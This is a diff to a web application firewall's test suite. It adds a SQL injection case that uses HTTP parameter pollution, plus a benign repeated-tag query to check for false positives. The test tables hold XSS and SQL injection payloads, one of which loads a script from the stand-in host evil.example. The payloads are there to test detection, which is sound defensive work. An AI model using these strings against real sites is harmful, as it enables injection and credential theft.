@@ -1572,6 +1572,8 @@ describe("WAF", () => {
     ["/gw/open/search?q=%27-prompt(1)-%27", "xss-dom"],
     ["/gw/open/search?q=%27-confirm(document.domain)-%27", "xss-dom"],
     ["/gw/open/search?q=%27%3Bimport(%27%2F%2Fevil.example%2Fx.js%27)%2F%2F", "xss-dom"],
+    // HTTP parameter pollution: ASP.NET joins a repeated key's values with a comma.
+    ["/gw/open/search?id=1+union%2F*&id=*%2Fselect+user%2Cpassword+from+users", "sqli-union"],
   ];
   const bodyAttacks = [
     ["application/x-www-form-urlencoded", "name=x&comment=%3Cscript%3Esteal()%3C%2Fscript%3E", "xss-script"],
@@ -1641,6 +1643,7 @@ describe("WAF", () => {
     "/gw/open/search?title=HTML+%26+JavaScript%3A+Web+Design+for+Beginners",
     "/gw/open/search?q=Meet+at+the+union+table+tennis+club",
     "/gw/open/search?q=Write+the+prompt(s)+first%2C+then+confirm(yes%2Fno)",
+    "/gw/open/search?tag=union&tag=select&tag=rock",
   ];
   const benignBodies = [
     // The third payload review: a list's entry, a title, a mail's line starting with a script scheme's name.
